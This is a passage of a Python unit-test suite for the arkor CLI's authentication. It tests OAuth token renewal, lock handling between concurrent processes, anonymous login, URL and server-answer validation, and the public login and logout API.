        # Auth0 gone altogether: the same, with the network's reason.
        self.auth0.stop()
        code, out, err = self.run_main("whoami")
        self.assertEqual(code, 0)
        self.assert_identity(out)
        self.assertEqual(
            err,
            f"Could not renew the access token (Could not reach https://{self.auth0.domain}/oauth/token:"
            " Connection refused); trying the stored one.\n",
        )
        self.assertEqual(self.creds_bytes(), before)

    def test_a_failed_renewal_is_not_tried_again_after_a_401(self) -> None:
        # Near expiry and Auth0 down: the renewal before the request fails,
        # the stored token gets a 401, and that is the answer: one attempt,
        # one warning.
        self.sign_in_oauth(expires_in=30)
        before = self.creds_bytes()
        self.auth0.script("POST", "/oauth/token", Answer(503, {"error": "temporarily_unavailable"}))
        self.cloud.script("GET", "/v1/me", Answer(401, {"error": "unauthorized"}))
        code, out, err = self.run_main("whoami")
        self.assertEqual((code, out), (0, "Failed to fetch /v1/me (401). Token may be expired.\n"))
        self.assertEqual(
            err,
            f"Could not renew the access token (https://{self.auth0.domain}/oauth/token answered 503);"
            " trying the stored one.\n",
        )
        self.assertEqual(self.routes(), ["POST /oauth/token", "GET /v1/me"])
        self.assertEqual(self.creds_bytes(), before)

    def test_concurrent_refreshes_keep_the_newest_refresh_token(self) -> None:
        # Three processes find the token expired at the same moment; Auth0
        # rotates and refuses a spent refresh token. Under the lock, one
        # refreshes and the others adopt its result.
        self.auth0.rotate = True
        self.sign_in_oauth(expires_in=-100)
        lock = os.path.realpath(self.creds + ".lock")
        if POSIX and os.path.isdir(f"/proc/{os.getpid()}/fd"):
            import fcntl

            # The lock is held here until all three wait for it: they meet there for sure.
            with open(lock, "a") as held:
                fcntl.flock(held.fileno(), fcntl.LOCK_EX)
                procs = [self.spawn("whoami") for _ in range(3)]
                self.wait_until(lambda: all(refresh_holders(p.pid, lock) for p in procs))
        else:  # no /proc: a slow Auth0 makes the refreshes overlap
            self.auth0.refresh_delay = 0.5
            procs = [self.spawn("whoami") for _ in range(3)]
        for proc in procs:
            out, err = proc.communicate(timeout=30)
            self._record(out, err)
            self.assertEqual((proc.returncode, err), (0, ""))
            self.assert_identity(out)
        self.assertEqual(len(self.auth0.seen("POST", "/oauth/token")), 1)
        stored = self.read_creds()["refreshToken"]
        self.assertEqual(stored, self.auth0.newest_refresh_token())
        self.assertTrue(self.auth0.accepts(stored))

    def test_login_and_logout_wait_for_a_renewal_in_flight(self) -> None:
        # A renewal reads, asks Auth0, then writes: a login or a logout in
        # the middle must wait for it, not be overwritten by its write.
        # Auth0 answers the renewal only once the second command has said
        # that it waits for the lock (after a second): proof that it waited.
        import threading

        self.auth0.rotate = True
        waiting = f"Waiting for another arkor process, which holds {self.creds}.lock\u2026\n"
        for second in (["login", "--anonymous"], ["logout", "--yes"]):
            with self.subTest(second=second):
                started: list[subprocess.Popen[str]] = []
                spawned, said = threading.Event(), []

                def slow_refresh(
                    seen: Any, started: list[Any] = started, spawned: Any = spawned, said: list[str] = said
                ) -> Answer:
                    if spawned.wait(20):  # 20: a guard
                        said.append(started[0].stderr.readline())
                    return self.auth0._default(seen)

                self.auth0.script("POST", "/oauth/token", slow_refresh)
                self.clear_requests()
                self.sign_in_oauth(expires_in=-100)
                renewing = self.spawn("whoami")
                self.wait_until(lambda: self.auth0.seen("POST", "/oauth/token"))
                started.append(self.spawn(*second))
                spawned.set()
                code = started[0].wait(30)
                assert started[0].stdout is not None and started[0].stderr is not None
                out, err = started[0].stdout.read(), started[0].stderr.read()
                self._record(out, err)
                self.assertEqual(said, [waiting], "the second command never waited for the lock")
                renewed_out, renewed_err = renewing.communicate(timeout=30)
                self._record(renewed_out, renewed_err)
                self.assertEqual((renewing.returncode, renewed_err), (0, ""))
                self.assert_identity(renewed_out)
                if second[0] == "login":
                    # Nobody to ask, --anonymous given: replaced, and said so (SPEC 5.0).
                    self.assertEqual(err, f"Replaced the OAuth sign-in at {self.auth0.domain}.\n")
                    stored = self.read_creds()
                    self.assertEqual(stored["mode"], "anon")
                    self.assertEqual(
                        (code, out), (0, anon_output(stored["anonymousId"], self.creds, stored["orgSlug"]))
                    )
                else:
                    self.assertEqual((code, out, err), (0, f"Removed {self.creds}.\n", ""))
                    self.assertFalse(os.path.exists(self.creds))
                    # What was revoked is the refresh token the renewal stored, not the spent one.
                    self.assertEqual([r["token"] for r in self.auth0.revoked], [self.auth0.newest_refresh_token()])

    def test_renewed_but_not_stored_still_serves_the_command(self) -> None:
        self.sign_in_oauth(expires_in=-100)
        before = self.creds_bytes()
        with mock.patch.object(os, "fsync", side_effect=OSError(28, "No space left on device")):
            code, out, err = self.run_main("whoami")
        self.assertEqual(code, 0)
        self.assert_identity(out)
        self.assertEqual(
            err,
            f"Could not write {self.creds}: No space left on device. The renewed token serves this command only.\n",
        )
        self.assertEqual(self.creds_bytes(), before)
        self.assertEqual(self.leftovers(), [])

    @unittest.skipUnless(POSIX, "fcntl")
    def test_a_lock_held_too_long_is_given_up_with_a_warning(self) -> None:
        import fcntl

        self.sign_in_oauth(expires_in=-100)
        with open(self.creds + ".lock", "a") as held:
            fcntl.flock(held.fileno(), fcntl.LOCK_EX)
            # The wait is one request's bound with room: 0.4 s here, no notice yet.
            code, out, err = self.run_main("whoami", ARKOR_HTTP_TIMEOUT="0.2")
        self.assertEqual(code, 0)
        self.assert_identity(out)  # the stored access token still works here
        self.assertEqual(
            err,
            f"Could not renew the access token (Another arkor process holds {self.creds}.lock;"
            " try again in a moment.); trying the stored one.\n",
        )
        self.assertEqual(self.auth0.seen("POST", "/oauth/token"), [])

    def test_lock_is_released_after_a_failure(self) -> None:
        self.sign_in_oauth(expires_in=-100)
        self.auth0.script("POST", "/oauth/token", Answer(500), lambda seen: self.auth0._default(seen))
        # A lock left behind would give a warning within 0.4 s.
        code, _out, err = self.run_main("whoami", ARKOR_HTTP_TIMEOUT="0.2")
        self.assertEqual(code, 0)
        self.assertEqual(
            err,
            f"Could not renew the access token (https://{self.auth0.domain}/oauth/token answered 500);"
            " trying the stored one.\n",
        )
        code, _out, err = self.run_main("whoami", ARKOR_HTTP_TIMEOUT="0.2")
        self.assertEqual((code, err), (0, ""))
        self.assertEqual(len(self.auth0.seen("POST", "/oauth/token")), 2)


class PublicApiTest(OAuthCase):
    """The functions scripts import: the same ones the commands use. They
    read the process's own environment, so each is called by a script in a
    process of its own (Case.api)."""

    def test_exports(self) -> None:
        self.assertEqual(
            sorted(arkor_cli.__all__),
            [
                "ArkorError",
                "__version__",
                "cloud_api_url",
                "credentials_path",
                "get_token",
                "login",
                "logout",
                "main",
                "read_credentials",
            ],
        )
        for name in arkor_cli.__all__:
            value = getattr(arkor_cli, name)
            if callable(value):
                self.assertTrue(value.__doc__, f"{name} has no docstring")

    def test_signed_out(self) -> None:
        self.assertEqual(
            self.api("credentials_path()", "read_credentials()", "get_token()", "cloud_api_url()"),
            [self.creds, None, None, self.cloud.url],
        )
        self.assertEqual(self.api("cloud_api_url()", ARKOR_CLOUD_API_URL=None), ["https://api.arkor.ai"])
        self.assertEqual(self.cloud.requests, [])

    def test_signed_in_anonymously(self) -> None:
        self.assertEqual(self.run_main("login", "--anonymous")[0], 0)
        (token,) = self.cloud.tokens
        got, base, stored = self.api("get_token()", "cloud_api_url()", "read_credentials()", ARKOR_CLOUD_API_URL=None)
        self.assertEqual(got, token)
        self.assertEqual(base, self.cloud.url)  # the stored one
        assert stored is not None
        self.assertEqual(stored["mode"], "anon")
        # the variable wins
        self.assertEqual(self.api("cloud_api_url()", ARKOR_CLOUD_API_URL="http://127.0.0.1:1/"), ["http://127.0.0.1:1"])

    def test_read_credentials_returns_the_file_as_written(self) -> None:
        for mode in ("oauth", "auth0"):
            with self.subTest(mode=mode):
                stored = dict(self.sign_in_oauth(mode=mode), unknown={"kept": [1, None]})
                self.write_creds(stored)
                self.assertEqual(self.api("read_credentials()"), [stored])  # the mode tag as written
                self.assertEqual(arkor_cli.read_credentials(self.creds), stored)  # an explicit path
        anon = self.sign_in_anon()
        elsewhere = os.path.join(self.home, "elsewhere.json")
        os.replace(self.creds, elsewhere)
        self.assertEqual(arkor_cli.read_credentials(elsewhere), anon)
        self.assertEqual(self.api("read_credentials()"), [None])
        self.assertEqual((self.cloud.requests, self.auth0.requests), ([], []))

    def test_get_token_renews_near_expiry(self) -> None:
        before = self.sign_in_oauth(expires_in=10, mode="auth0")
        # the second call finds it fresh: no second renewal
        token, again, after = self.api("get_token()", "get_token()", "read_credentials()")
        self.assertEqual(token, self.auth0.issued[-1]["access_token"])
        self.assertNotEqual(token, before["accessToken"])
        self.assertEqual(again, token)
        self.assertEqual(len(self.auth0.seen("POST", "/oauth/token")), 1)
        self.assertEqual(after["accessToken"], token)
        self.assertEqual(after["mode"], "auth0")  # a renewal keeps the tag
        # and the token works against the cloud-api
        code, out, _ = self.run_main("whoami")
        self.assertEqual(code, 0)
        self.assertTrue(out.endswith("Orgs: ada-personal, analytical\n"))

    def test_broken_file_raises_the_cli_message(self) -> None:
        self.write_creds(b"{oops")
        ((kind, message, status),) = self.api("get_token()")
        self.assertEqual(kind, "ArkorError")
        self.assertTrue(message.startswith(f"{self.creds} does not hold valid arkor credentials"))
        self.assertEqual(status, 1)

    # -- login() and logout(), for notebooks ------------------------------------

    def test_anonymous_login_and_logout_print_nothing(self) -> None:
        code, out, err = self.run_python(
            "import json, arkor_cli\n"
            "first = arkor_cli.login(anonymous=True)\n"
            "try:\n"
            "    arkor_cli.login(anonymous=True)\n"
            "except arkor_cli.ArkorError as exc:\n"
            "    refused = exc.message\n"
            "second = arkor_cli.login(anonymous=True, replace=True)\n"
            "print(json.dumps([first, refused, second, arkor_cli.logout(), arkor_cli.logout()]))\n"
        )
        self.assertEqual((code, err), (0, ""))
        first, refused, second, removed, again = json.loads(out)  # one line: nothing else was printed
        self.assertEqual(first, {"mode": "anon", "anonymousId": "anon-0001", "orgSlug": "anon-org-0001"})
        self.assertEqual(refused, "Already signed in anonymously as anon-0001; call login(replace=True) to replace it.")
        self.assertEqual(second["anonymousId"], "anon-0002")
        self.assertEqual((removed, again), (True, False))
        self.assertFalse(os.path.exists(self.creds))
        # The refused login sent nothing.
        self.assertEqual(len(self.cloud.seen("POST", "/v1/auth/anonymous")), 2)

    def test_a_bad_login_timeout_is_an_arkor_error(self) -> None:
        self.assertEqual(
            self.api("login(anonymous=True, timeout=-1)", "login(anonymous=True, timeout='soon')"),
            [
                ("ArkorError", "login(timeout=...) is not a positive number of seconds: '-1'.", 1),
                ("ArkorError", "login(timeout=...) is not a positive number of seconds: 'soon'.", 1),
            ],
        )
        self.assertEqual(self.cloud.requests, [])

    def test_warnings_go_to_the_arkor_logger(self) -> None:
        stored = self.auth0_creds()  # its Auth0 refuses connections
        stored["expiresAt"] = int(time.time()) + 30
        self.write_creds(stored)
        code, out, err = self.run_python(
            "import json, logging, arkor_cli\n"
            "seen = []\n"
            "class Keep(logging.Handler):\n"
            "    def emit(self, record):\n"
            "        seen.append((record.name, record.levelname, record.getMessage()))\n"
            "logging.getLogger('arkor').addHandler(Keep())\n"
            "token = arkor_cli.get_token()\n"
            "print(json.dumps([token == " + repr(stored["accessToken"]) + ", seen]))\n"
        )
        self.assertEqual((code, err), (0, ""))
        same, seen = json.loads(out)
        self.assertTrue(same)
        ((name, level, message),) = seen
        self.assertEqual((name, level), ("arkor", "WARNING"))
        self.assertTrue(message.startswith("Could not renew the access token (Could not reach https://"), message)
        # Without a handler of the caller's, nothing reaches stderr.
        self.assertEqual(self.run_python("import arkor_cli\narkor_cli.get_token()\n")[1:], ("", ""))

    def test_cloud_api_url_needs_no_readable_file_when_the_variable_is_set(self) -> None:
        self.write_creds(b"{broken")
        self.assertEqual(self.api("cloud_api_url()"), [self.cloud.url])

    def oauth_login_process(self, before: str = "", then: str = "") -> tuple[subprocess.Popen[str], str]:
        """``login()`` in a script whose stdin is a pipe, as a notebook
        kernel's is, with ``before`` and ``then`` around it; with the
        authorize URL it printed."""
        script = "import json, arkor_cli\nprint(json.dumps(arkor_cli.login(open_browser=False)), flush=True)\n"
        proc = subprocess.Popen(
            [sys.executable, "-c", before + script + then],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
            env=self.env(PYTHONPATH=HERE),
        )
        self.addCleanup(lambda: proc.poll() is None and proc.kill())
        # A guard, not a timing: a line that never comes must fail the test
        # (a killed process ends every read), not hang it.
        import threading

        guard = threading.Timer(30, proc.kill)
        guard.daemon = True
        guard.start()
        self.addCleanup(guard.cancel)
        assert proc.stdout is not None
        # What the caller sees: the URL and the paste prompt, nothing else.
        line = proc.stdout.readline()
        self.assertTrue(line.startswith("Browser: https://"), line)
        self.assertEqual(
            proc.stdout.readline(),
            "Or, if the browser cannot reach this machine, paste the address it ended on and press Enter:\n",
        )
        return proc, line.split(" ", 1)[1].strip()

    def finish_oauth_login(self, proc: subprocess.Popen[str]) -> None:
        assert proc.stdout is not None
        out = proc.stdout.read()  # through the same buffer as the lines read before
        _, err = proc.communicate(timeout=30)
        self._record(out, err)
        self.assertEqual((proc.returncode, err), (0, ""))
        public = {"mode": "oauth", "auth0Domain": self.auth0.domain, "audience": self.auth0.audience}
        self.assertEqual(out, json.dumps(public) + "\n")
        self.assertEqual(self.read_creds()["refreshToken"], self.auth0.newest_refresh_token())

    def test_oauth_login_through_the_loopback(self) -> None:
        proc, url = self.oauth_login_process()
        status, _, _ = browse(url)
        self.assertEqual(status, 200)
        self.finish_oauth_login(proc)

    def test_oauth_login_without_standard_streams(self) -> None:
        # pythonw and some GUI hosts start with no sys.stdin, stdout or
        # stderr: the browser and the loopback still sign in.
        script = (
            "import json, os, sys, arkor_cli\n"
            "real = sys.stdout\n"
            "sys.stdin = sys.stdout = sys.stderr = None\n"
            "try:\n"
            "    done = arkor_cli.login()\n"
            "except Exception as exc:\n"
            "    done = repr(exc)\n"
            "real.write(json.dumps(done))\n"
        )
        code, out, err = self.run_python(script, BROWSER=fake_browser())
        self.assertEqual((code, err), (0, ""))
        public = {"mode": "oauth", "auth0Domain": self.auth0.domain, "audience": self.auth0.audience}
        self.assertEqual(json.loads(out), public)
        self.assertEqual(self.read_creds()["refreshToken"], self.auth0.newest_refresh_token())

    def test_a_stdout_that_fails_stays_the_callers(self) -> None:
        # A write to the caller's sys.stdout that fails is the caller's to
        # deal with: login() must not point the program's descriptor 1 at the
        # null device, as the command line does with its own stdout.
        script = (
            "import os, sys, arkor_cli\n"
            "class Full:\n"
            "    def write(self, text):\n"
            "        raise OSError(28, 'No space left on device')\n"
            "    def flush(self):\n"
            "        pass\n"
            "    def fileno(self):\n"
            "        return 1\n"
            "sys.stdout = Full()\n"
            "done = arkor_cli.login()\n"
            "os.write(1, (done['mode'] + ' and the script still writes\\n').encode())\n"
        )
        code, out, err = self.run_python(script, BROWSER=fake_browser())
        self.assertEqual((code, out, err), (0, "oauth and the script still writes\n", ""))
        self.assertEqual(self.read_creds()["refreshToken"], self.auth0.newest_refresh_token())

    @unittest.skipUnless(POSIX, "SIGUSR1")
    def test_after_a_loopback_sign_in_the_scripts_input_is_its_own(self) -> None:
        # The paste prompt's reader ends with the sign-in: the script's next
        # input() gets its whole line, and nothing more reaches its stdout.
        # The script reads it only once told (SIGUSR1): by then a reader left
        # running would have taken the line.
        proc, url = self.oauth_login_process(
            before="import signal\nsignal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGUSR1})\n",
            then="signal.sigwait({signal.SIGUSR1})\nprint(repr(input()))\n",
        )
        assert proc.stdin is not None and proc.stdout is not None and proc.stderr is not None
        proc.stdin.write("not an address\n")  # the reader is at work, and waits again
        proc.stdin.flush()
        self.assertTrue(proc.stdout.readline().startswith("That is not the address the browser ended on"))
        status, _, _ = browse(url)
        self.assertEqual(status, 200)
        public = {"mode": "oauth", "auth0Domain": self.auth0.domain, "audience": self.auth0.audience}
        self.assertEqual(proc.stdout.readline(), json.dumps(public) + "\n")  # login() has returned
        proc.stdin.write("my-project\n")
        proc.stdin.close()
        proc.send_signal(signal.SIGUSR1)
        out, err = proc.stdout.read(), proc.stderr.read()
        self._record(out, err)
        self.assertEqual((proc.wait(timeout=30), out, err), (0, "'my-project'\n", ""))

    def test_oauth_login_by_the_pasted_address(self) -> None:
        # Colab: the browser cannot reach the kernel's loopback; the address
        # it ended on is pasted at the input() prompt instead.
        import http.client
        import ssl

        proc, url = self.oauth_login_process()
        parts = urlsplit(url)
        connection = http.client.HTTPSConnection(
            parts.netloc, context=ssl.create_default_context(cafile=TEST_CA), timeout=30
        )
        connection.request("GET", f"{parts.path}?{parts.query}")
        with connection.getresponse() as answer:
            self.assertEqual(answer.status, 302)
            ended_on = answer.headers["Location"]
        connection.close()
        assert proc.stdin is not None and proc.stdout is not None
        # An older tab's address first: the caller is told, and asked again.
        old_tab = ended_on.replace("state=", "state=old")
        proc.stdin.write(old_tab + "\n")
        proc.stdin.flush()
        self.assertEqual(
            proc.stdout.readline(),
            "That address belongs to another sign-in (an older tab?), not to this one."
            " Paste the address this sign-in ended on, or wait for the browser:\n",
        )
        proc.stdin.write(ended_on + "\n")
        proc.stdin.flush()
        self.finish_oauth_login(proc)


# ---------------------------------------------------------------------------
# Commands: login, logout, whoami
# ---------------------------------------------------------------------------


class LoginAnonymousTest(Case):
    def test_anonymous_flag(self) -> None:
        code, out, err = self.run_main("login", "--anonymous")
        self.assertEqual(code, 0)
        self.assertEqual(err, "")  # no upgrade nudge on this path
        self.assertEqual(out, anon_output("anon-0001", self.creds, "anon-org-0001"))
        # No config fetch: exactly one request, and what it carried.
        (request,) = self.cloud.requests
        self.assertEqual((request.method, request.path), ("POST", "/v1/auth/anonymous"))
        self.assertEqual(request.json(), {"kind": "cli"})
        self.assertEqual(request.headers["content-type"], "application/json")
        self.assertEqual(request.headers["accept"], "application/json")
        self.assertEqual(request.headers["x-arkor-client"], f"arkor/{arkor_cli.__version__}")
        self.assertNotIn("authorization", request.headers)
        (token,) = self.cloud.tokens
        self.assertEqual(
            self.read_creds(),
            {
                "mode": "anon",
                "token": token,
                "anonymousId": "anon-0001",
                "arkorCloudApiUrl": self.cloud.url,
                "orgSlug": "anon-org-0001",
            },
        )
        self.assertEqual(self.leftovers(), [])

    @unittest.skipUnless(POSIX, "POSIX permission bits")
    def test_file_0600_and_directory_0700(self) -> None:
        old = os.umask(0)  # even with a permissive umask
        try:
            self.run_main("login", "--anonymous")
        finally:
            os.umask(old)
        self.assertEqual(stat.S_IMODE(os.stat(self.creds).st_mode), 0o600)
        self.assertEqual(stat.S_IMODE(os.stat(self.arkor_dir).st_mode), 0o700)

    def test_each_anonymous_login_is_a_new_identity(self) -> None:
        self.sign_in_anon()
        self.run_main("login", "--anonymous")
        first = self.read_creds()
        self.run_main("login", "--anonymous")
        second = self.read_creds()
        self.assertEqual(first["anonymousId"], "anon-0001")
        self.assertEqual(second["anonymousId"], "anon-0002")
        self.assertNotEqual(first["token"], second["token"])

    def test_both_flags_refused_before_anything_is_sent(self) -> None:
        code, out, err = self.run_main("login", "--oauth", "--anonymous")
        self.assertEqual((code, out, err), (1, "", "Pick one of --oauth / --anonymous, not both.\n"))
        self.assertEqual(self.cloud.requests, [])
        self.assertFalse(os.path.exists(self.arkor_dir))

    def test_not_configured_continues_anonymously(self) -> None:
        code, out, err = self.run_main("login")
        self.assertEqual(code, 0)
        self.assertEqual(
            out,
            "OAuth is not configured. Continuing with an anonymous session.\n"
            + anon_output("anon-0001", self.creds, "anon-org-0001"),
        )
        self.assertEqual(err, "")  # no nudge towards an OAuth that is not there
        self.assertEqual(
            [(r.method, r.path) for r in self.cloud.requests],
            [("GET", "/v1/auth/cli/config"), ("POST", "/v1/auth/anonymous")],
        )
        self.assertEqual(self.read_creds()["mode"], "anon")

    def test_partly_configured_is_not_configured(self) -> None:
        for missing in ("auth0Domain", "clientId", "audience"):
            with self.subTest(missing=missing):
                self.cloud.config = dict(OAUTH_CONFIG, **{missing: ""})
                if os.path.exists(self.creds):
                    os.remove(self.creds)  # else a bare login only says who is signed in
                code, out, _ = self.run_main("login")
                self.assertEqual(code, 0)
                self.assertTrue(out.startswith("OAuth is not configured. Continuing"))

    def test_oauth_flag_when_not_configured(self) -> None:
        self.sign_in_anon()
        before = self.creds_bytes()
        code, out, err = self.run_main("login", "--oauth")
        self.assertEqual(code, 1)
        self.assertEqual(
            err,
            "OAuth is not configured for this deployment. Re-run without --oauth or pass --anonymous.\n",
        )
        self.assertEqual(out, "")
        self.assertEqual([r.path for r in self.cloud.requests], ["/v1/auth/cli/config"])
        self.assertEqual(self.creds_bytes(), before)

    def test_oauth_in_ci_refused_without_a_request(self) -> None:
        code, _out, err = self.run_main("login", "--oauth", CI="true")
        self.assertEqual(code, 1)
        self.assertEqual(
            err, "--oauth needs a browser callback that CI runners can't complete. Use --anonymous in CI.\n"
        )
        self.assertEqual(self.cloud.requests, [])
        self.assertFalse(os.path.exists(self.creds))

    def test_no_tty_takes_anonymous_and_nudges(self) -> None:
        self.cloud.config = OAUTH_CONFIG
        code, out, err = self.run_main("login")
        self.assertEqual(code, 0)
        self.assertEqual(out, anon_output("anon-0001", self.creds, "anon-org-0001"))
        self.assertEqual(err, NUDGE)

    def test_trailing_slash_of_base_url_is_stripped(self) -> None:
        code, _, _ = self.run_main("login", "--anonymous", ARKOR_CLOUD_API_URL=self.cloud.url + "/")
        self.assertEqual(code, 0)
        self.assertEqual(self.cloud.requests[0].path, "/v1/auth/anonymous")
        self.assertEqual(self.read_creds()["arkorCloudApiUrl"], self.cloud.url)

    def test_empty_base_url_fails_naming_the_variable(self) -> None:
        code, _out, err = self.run_main("login", "--anonymous", ARKOR_CLOUD_API_URL="")
        self.assertEqual(code, 1)
        self.assertEqual(err, "ARKOR_CLOUD_API_URL is not an http(s) URL: ''.\n")
        self.assertFalse(os.path.exists(self.creds))

    def test_bad_base_urls(self) -> None:
        not_url = "ARKOR_CLOUD_API_URL is not an http(s) URL: {!r}.\n"
        # The port is named as the problem, not the whole URL.
        bad_port = "ARKOR_CLOUD_API_URL has a port that is not a number from 1 to 65535: {!r}.\n"
        for url, message in (
            ("ftp://example.com", not_url),
            ("not a url", not_url),
            ("https:///v1", not_url),
            ("http://[::1", not_url),
            ("http://127.0.0.1:notaport", bad_port),
            ("http://127.0.0.1:3625x", bad_port),
            ("http://127.0.0.1:0", bad_port),
            ("http://127.0.0.1:65536", bad_port),
            ("https://[::1]:99999", bad_port),
        ):
            with self.subTest(url=url):
                code, out, err = self.run_main("login", "--anonymous", ARKOR_CLOUD_API_URL=url)
                self.assertEqual((code, out, err), (1, "", message.format(url)))
        self.assertEqual(self.cloud.requests, [])
        self.assertFalse(os.path.exists(self.creds))

    def test_failed_anonymous_login_keeps_the_old_file(self) -> None:
        self.sign_in_anon()
        before = self.creds_bytes()
        endpoint = f"POST {self.cloud.url}/v1/auth/anonymous"
        cases = {
            "server error": (
                Answer(500, body=b"upstream exploded\nat line 2"),
                f"{endpoint} failed (500): upstream exploded\n"
                + server_failed(f"{self.cloud.url}/v1/auth/anonymous", 500).rstrip("\n"),
            ),
            "html": (
                Answer(
                    200,
                    body=b"<html><head><title>Sign\n in</title></head><body>Sign in</body></html>",
                    headers={"Content-Type": "text/html"},
                ),
                (
                    f"Unexpected answer from {endpoint} (200): not JSON (Expecting value (line 1, column 1)):"
                    " an HTML page, 'Sign in'."
                ),
            ),
            "garbage": (
                Answer(200, body=b"\x00\xff\xfe garbage"),
                (
                    f"Unexpected answer from {endpoint} (200): not JSON ('utf-8' codec can't decode byte 0xff in"
                    " position 1: invalid start byte)."  # it may hold a token: never quoted
                ),
            ),
            "a list": (Answer(200, json_body=[1, 2]), f"Unexpected answer from {endpoint} (200): not a JSON object."),
            "no token": (
                Answer(200, {"anonymousId": "a", "personalOrg": {"slug": "s"}}),
                f"Unexpected answer from {endpoint} (200): missing token.",
            ),
            "token not a string": (
                Answer(200, {"token": 7, "anonymousId": "a", "personalOrg": {"slug": "s"}}),
                f"Unexpected answer from {endpoint} (200): token is not valid.",
            ),
            "no org": (
                Answer(200, {"token": "t-x", "anonymousId": "a"}),
                f"Unexpected answer from {endpoint} (200): missing personalOrg.",
            ),
            "org without slug": (
                Answer(200, {"token": "t-x", "anonymousId": "a", "personalOrg": {"id": "1"}}),
                f"Unexpected answer from {endpoint} (200): personalOrg is not valid.",
            ),
        }
        self.secrets.append("t-x")
        for name, (answer, message) in cases.items():
            with self.subTest(name):
                self.cloud.script("POST", "/v1/auth/anonymous", answer)
                code, out, err = self.run_main("login", "--anonymous")
                self.assertEqual(
                    (code, out, err),
                    (1, "", f"{message}\n"),
                )
                self.assertEqual(self.creds_bytes(), before)
                self.assertEqual(self.leftovers(), [])

    def test_bad_config_answers(self) -> None:
        endpoint = f"GET {self.cloud.url}/v1/auth/cli/config"
        cases = {
            Answer(500, body=b""): f"{endpoint} failed (500): (empty body)\n"
            + server_failed(f"{self.cloud.url}/v1/auth/cli/config", 500).rstrip("\n"),
            Answer(200, body=b"<!doctype html>"): f"Unexpected answer from {endpoint} (200):"
            " not JSON (Expecting value (line 1, column 1)): an HTML page.",
            Answer(200, json_body="config"): f"Unexpected answer from {endpoint} (200): not a JSON object.",
            Answer(200, dict(OAUTH_CONFIG, auth0Domain=5)): f"Unexpected answer from {endpoint} (200):"
            " auth0Domain is not valid.",
            Answer(200, dict(OAUTH_CONFIG, callbackPorts="52521")): f"Unexpected answer from {endpoint} (200):"
            " callbackPorts is not valid.",
            Answer(200, dict(OAUTH_CONFIG, callbackPorts=[70000])): f"Unexpected answer from {endpoint} (200):"
            " callbackPorts is not valid.",
            Answer(200, dict(OAUTH_CONFIG, callbackPorts=[True])): f"Unexpected answer from {endpoint} (200):"
            " callbackPorts is not valid.",
        }
        for answer, message in cases.items():
            with self.subTest(message):
                self.cloud.script("GET", "/v1/auth/cli/config", answer)
                code, out, err = self.run_main("login")
                self.assertEqual((code, out, err), (1, "", message + "\n"))
        self.assertEqual(self.cloud.seen("POST"), [])
        self.assertFalse(os.path.exists(self.creds))
        self.assertEqual(self.leftovers(), [])

    def test_a_garbled_sign_in_answer_never_shows_its_token(self) -> None:
        # The answer holds the new token even when it is not JSON (cut short
        # by a proxy, say): the error names the endpoint, never quotes it.
        token = "anon-token-garbled-secret"
        self.secrets.append(token)
        body = json.dumps({"token": token, "anonymousId": "anon-x", "kind": "cli"}).encode()[:-1]
        self.cloud.script("POST", "/v1/auth/anonymous", Answer(201, body=body))
        code, out, err = self.run_main("login", "--anonymous")
        self.assertEqual((code, out), (1, ""))
        self.assertEqual(
            err,
            f"Unexpected answer from POST {self.cloud.url}/v1/auth/anonymous (201):"
            " not JSON (Expecting ',' delimiter (line 1, column 78)).\n",
        )
        self.assertFalse(os.path.exists(self.creds))

    def test_unsupported_sdk_on_login(self) -> None:
        self.cloud.script("POST", "/v1/auth/anonymous", Answer(426, body=b""))
        code, _out, err = self.run_main("login", "--anonymous")
        self.assertEqual(code, 1)
        self.assertEqual(err, f"Arkor SDK is no longer supported by the cloud API. {COPIED_FIX}\n")
        self.assertFalse(os.path.exists(self.creds))

    def test_deprecation_latest_wins(self) -> None:
        self.cloud.script(
            "GET",
            "/v1/auth/cli/config",
            Answer(200, self.cloud.config, headers={"Deprecation": "true", "Warning": '299 - "first"'}),
        )
        minted = self.cloud.mint_anonymous()
        self.cloud.script(
            "POST",
            "/v1/auth/anonymous",
            Answer(201, minted, headers={"Deprecation": "true", "Warning": '299 - "second"'}),
        )
        code, _out, err = self.run_main("login")
        self.assertEqual(code, 0)
        self.assertEqual(err, f"second (current: {arkor_cli.__version__}). {COPIED_FIX}\n")

    REPLACE = "Replace the anonymous identity anon-stored? It cannot be restored. [y/N] "
    PICKER = (
        "How would you like to sign in?\n  1) OAuth (browser)  Sign in to your account\n"
        "  2) Anonymous        Throwaway token, no account\n"
    )
    PROMPT = "Choose 1-2 [2]: "

    def test_picker_enter_takes_anonymous(self) -> None:
        self.cloud.config = OAUTH_CONFIG
        code, out, err = _login_main_on_tty(self, "login", typed="\n")
        self.assertEqual((code, err), (0, NUDGE))
        self.assertEqual(out, self.PICKER + self.PROMPT + anon_output("anon-0001", self.creds, "anon-org-0001"))
        self.assertEqual(self.read_creds()["mode"], "anon")

    @unittest.skipUnless(POSIX, "needs a pty")
    def test_picker_asks_again_after_undecodable_or_unknown_answers(self) -> None:
        # A byte that is not UTF-8 (typed in a Latin-1 terminal), then a number
        # out of range: each is asked again; a choice's name is taken.
        self.cloud.config = OAUTH_CONFIG
        with _login_tty_keys() as keys:

            def latin1(shown: str) -> str:
                keys(b"\xe9")  # and the Enter of every answer
                return ""

            code, shown, err = self.run_tty(["login"], [latin1, "7", "anonymous"], NO_COLOR="1", LANG="C.UTF-8")
        self.assertEqual((code, err), (0, "Please answer a number from 1 to 2.\n" * 2 + NUDGE))
        # No echo from the first answer on.
        self.assertEqual(shown, self.PICKER + self.PROMPT * 3 + anon_output("anon-0001", self.creds, "anon-org-0001"))

    @unittest.skipUnless(POSIX, "needs a pty")
    def test_ctrl_d_at_the_picker(self) -> None:
        # End of input: nothing is sent, and Aborted. starts a line of its own
        # (a terminal echoes nothing for Ctrl-D: the cursor is after the prompt).
        self.cloud.config = OAUTH_CONFIG
        with _login_tty_keys() as keys:

            def ctrl_d(shown: str) -> str:
                keys(b"\x04")
                return ""  # the Enter typed after it reaches nobody

            code, shown, err = self.run_tty(["login"], [ctrl_d], NO_COLOR="1")
        self.assertEqual((code, err), (1, ""))
        self.assertEqual(shown, self.PICKER + self.PROMPT + "\nAborted.\n")
        self.assertEqual([(r.method, r.path) for r in self.cloud.requests], [("GET", "/v1/auth/cli/config")])
        self.assertFalse(os.path.exists(self.creds))

    def test_no_picker_in_ci_even_on_a_terminal(self) -> None:
        self.cloud.config = OAUTH_CONFIG
